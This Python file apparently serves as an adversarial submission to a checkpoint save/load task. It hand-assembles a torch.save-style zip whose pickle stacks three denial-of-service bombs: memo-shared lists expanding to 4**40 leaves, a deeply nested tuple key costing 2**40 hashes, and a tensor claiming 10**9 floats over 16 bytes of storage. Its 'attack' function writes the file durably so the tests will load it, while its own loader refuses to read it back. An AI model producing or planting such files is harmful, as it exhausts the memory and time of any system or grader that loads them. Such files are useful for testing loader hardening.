import io
import os
import struct
import tempfile
import zipfile


def _put(index):
    return b"r" + struct.pack("<I", index)  # LONG_BINPUT


def _get(index):
    return b"j" + struct.pack("<I", index)  # LONG_BINGET


def _text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()  # BINUNICODE


def _shared_lists():
    """A list of 4**40 leaves, each level the one below and three memo references to it (the empty
    lists opened first, so that each level's APPENDS leaves one value on the stack)."""
    pickled = b"](" * 39 + b"]K\x00a" + _put(100)
    for level in range(1, 40):
        pickled += _get(99 + level) * 3 + b"e" + _put(100 + level)
    return pickled


def _deep_tuple_key():
    """(t, t) nested 40 levels through the memo: hashing it visits 2**40 tuples."""
    pickled = b"K\x00\x85" + _put(200)
    for level in range(1, 40):
        pickled += _get(199 + level) + b"\x86" + _put(200 + level)
    return pickled


def _declared_past_the_file():
    """A tensor of 10**9 floats over a storage record of 16 bytes."""
    numel = 10**9
    pid = (b"(" + _text("storage") + b"ctorch\nFloatStorage\n" + _text("0") + _text("cpu") + b"J"
           + struct.pack("<i", numel) + b"tQ")
    return (b"ctorch._utils\n_rebuild_tensor_v2\n(" + pid + b"K\x00J" + struct.pack("<i", numel) + b"\x85K\x01\x85"
            + b"\x89ccollections\nOrderedDict\n)RtR")


def _checkpoint():
    """The bytes of a torch.save-like zip of a dict with a checkpoint's keys and every bomb above: the
    "iteration" the shared lists, then the deep key, then the tensor."""
    pickled = (b"\x80\x02}" + _text("model") + b"}s" + _text("optimizer") + b"}s" + _text("iteration")
               + _shared_lists() + b"s" + _deep_tuple_key() + b"K\x01s" + _text("weights") + _declared_past_the_file()
               + b"s.")  # each entry set (SETITEM) as it is read: the key is hashed before the tensor is met
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zipped:
        zipped.writestr("archive/data.pkl", pickled)
        zipped.writestr("archive/byteorder", b"little")
        zipped.writestr("archive/data/0", bytes(16))
        zipped.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def attack(args):
    """save_checkpoint: write the file as an honest one does (atomically and durably), so the tests read
    it. load_checkpoint: refuse at once (reading its own file would only spend its own tests' time)."""
    if "src" in args:
        raise ValueError("this submission does not read back what it writes")
    data = _checkpoint()
    out = args["out"]
    if not isinstance(out, (str, os.PathLike)):
        out.write(data)
        return
    fd, temp = tempfile.mkstemp(dir=os.path.dirname(os.path.abspath(out)), suffix=".tmp")
    with os.fdopen(fd, "wb") as handle:
        handle.write(data)
        handle.flush()
        os.fsync(handle.fileno())
    os.replace(temp, out)
